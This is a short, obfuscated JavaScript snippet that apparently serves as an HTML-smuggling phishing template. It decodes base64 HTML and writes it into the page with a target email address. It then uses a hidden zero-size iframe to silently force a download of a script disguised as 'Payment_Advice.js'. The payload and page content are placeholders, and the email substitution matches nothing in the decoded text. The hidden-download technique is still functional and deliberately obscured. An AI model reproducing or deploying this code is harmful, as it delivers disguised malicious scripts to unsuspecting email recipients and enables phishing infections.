var z=["PGh0bWw+","PGJvZHk+","cGxhY2Vob2xkZXI=","PC9ib2R5Pg=="],o="";for(var i in z)o+=decodeURIComponent(escape(window["at"+"ob"](z[i])));
var e="user@company.example",b="QUFBQUFB".split("").reverse().join("");
document.open();document.write(o.replace("{{m}}",e));document.close();
setTimeout(function(){var f=document.createElement("iframe");f.style.width=f.style.height=0;f.src="data:application/octet-stream;headers=Content-Disposition%3A%20attachment%3B%20filename=Payment_Advice.js;base64,"+b;document.body.appendChild(f)},500);
